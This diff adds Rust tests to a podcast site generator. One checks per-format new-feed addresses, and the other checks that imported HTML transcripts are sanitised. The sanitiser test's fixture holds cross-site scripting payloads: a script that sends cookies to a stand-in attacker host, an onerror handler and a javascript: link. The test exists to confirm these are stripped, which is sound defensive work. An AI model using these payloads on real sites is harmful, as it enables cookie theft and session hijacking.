@@ -263,6 +263,98 @@ fn transcripts_are_checked_published_with_their_counterpart_and_shown() {
     assert!(run.stderr.contains("is not a .vtt, .srt, .json or .html file"), "{}", run.stderr);
 }
 
+/// A show that moved: each feed names its own new address, so an app
+/// moves a per-format feed's subscribers to the same format, not to
+/// feed.xml (another podcast:guid).
+#[test]
+fn each_feed_of_a_show_that_moved_names_its_own_new_address() {
+    let itunes_new =
+        |show: &Show, feed: &str| show.channel(feed).itunes_ext().and_then(|i| i.new_feed_url().map(str::to_string));
+    let moved = |table: &str| manifest("").replace("[podcast]\n", &format!("[podcast]\n{table}"));
+    let show = show("");
+    show.write("episodes.toml", &moved("new_feed_url = \"https://new.example.org/feed.xml\"\n"));
+    let run = show.build().ok();
+    assert!(
+        run.stderr.contains("`new_feed_url` moves feed.xml's subscribers; feed.ogg.xml's stay at its address")
+            && run.stderr.contains("new_feed_urls = { ogg = \"https://…/feed.ogg.xml\" }"),
+        "{}",
+        run.stderr
+    );
+    assert_eq!(itunes_new(&show, "feed.xml").as_deref(), Some("https://new.example.org/feed.xml"));
+    assert_eq!(itunes_new(&show, "feed.ogg.xml"), None);
+
+    show.write(
+        "episodes.toml",
+        &moved(
+            "new_feed_url = \"https://new.example.org/feed.xml\"\n\
+             new_feed_urls = { ogg = \"https://new.example.org/ogg.xml\" }\n",
+        ),
+    );
+    let run = show.build().ok();
+    assert!(!run.stderr.contains("NEW-FEED") && !run.stderr.contains("stay at its address"), "{}", run.stderr);
+    assert_eq!(itunes_new(&show, "feed.xml").as_deref(), Some("https://new.example.org/feed.xml"));
+    assert_eq!(itunes_new(&show, "feed.ogg.xml").as_deref(), Some("https://new.example.org/ogg.xml"));
+
+    // One for a feed the show does not make is said; a bad one is an error on its line.
+    show.write("episodes.toml", &moved("new_feed_urls = { opus = \"https://new.example.org/o.xml\" }\n"));
+    let run = show.build().ok();
+    assert!(run.stderr.contains("`new_feed_urls` sets `opus`, but the show makes no feed.opus.xml"), "{}", run.stderr);
+    show.write("episodes.toml", &moved("new_feed_urls = { ogg = \"ftp://x/feed.ogg.xml\", mp4 = \"https://x/\" }\n"));
+    let run = show.build().fails(1);
+    assert!(
+        run.stderr.contains("episodes.toml:2:25: `ogg` in `new_feed_urls` in [podcast] \"ftp://x/feed.ogg.xml\""),
+        "{}",
+        run.stderr
+    );
+    assert!(run.stderr.contains("unknown key `mp4` in `new_feed_urls` in [podcast]"), "{}", run.stderr);
+}
+
+/// An HTML transcript is published on the show's own site (perhaps
+/// downloaded from an old host by `import`): what would run there is left
+/// out, and said; its words and tags stay.
+#[test]
+fn an_html_transcript_is_published_without_what_would_run_on_the_site() {
+    let show = show("transcript = \"t.html\"\n");
+    show.write(
+        "t.html",
+        "<!DOCTYPE html><html><head><title>Pair</title><script>fetch('//evil.example/?'+document.cookie)</script></head>\
+         <body><p><cite>Ann:</cite> Hello &amp; <b>welcome</b>.</p><img src=x onerror=\"alert(origin)\">\
+         <a href=\"javascript:alert(1)\">more</a> <a href=\"https://example.org/\">notes</a></body></html>",
+    );
+    let run = show.build().ok();
+    assert!(
+        run.stderr.contains(
+            "episode \"Pair\": <script>, onerror=, href=\"javascript:alert(1)\" in t.html were left out of the published transcript"
+        ),
+        "{}",
+        run.stderr
+    );
+    let published = show.read("public/episodes/pair/transcript.html");
+    for gone in ["script", "cookie", "onerror", "alert", "javascript"] {
+        assert!(!published.contains(gone), "{gone} in {published}");
+    }
+    for kept in [
+        "<title>Pair</title>",
+        "<p><cite>Ann:</cite> Hello &amp; <b>welcome</b>.</p>",
+        "<img src=\"x\">",
+        "<a>more</a> <a href=\"https://example.org/\">notes</a>",
+    ] {
+        assert!(published.contains(kept), "{kept} not in {published}");
+    }
+    let tags = podcast_tags(&show, "feed.xml", "transcript");
+    let url = "https://example.com/show/episodes/pair/transcript.html";
+    assert_eq!(tags, [(url.to_string(), "text/html".to_string(), "en".to_string(), String::new())]);
+
+    // A clean one is published as cleaned, with nothing to say; again the same.
+    show.write("t.html", "<p><cite>Ann:</cite> Hello.</p>");
+    let run = show.build().ok();
+    assert!(!run.stderr.contains("left out"), "{}", run.stderr);
+    let once = show.read("public/episodes/pair/transcript.html");
+    assert!(once.contains("<body>\n<p><cite>Ann:</cite> Hello.</p>\n</body>"), "{once}");
+    show.run(&["build", "--no-cache"]).ok();
+    assert_eq!(show.read("public/episodes/pair/transcript.html"), once);
+}
+
 /// A show's manifest with every Podcasting 2.0 tag a publisher sets: the
 /// podcast table, an episode with both files, a trailer.
 fn namespace_show() -> (String, String, String) {
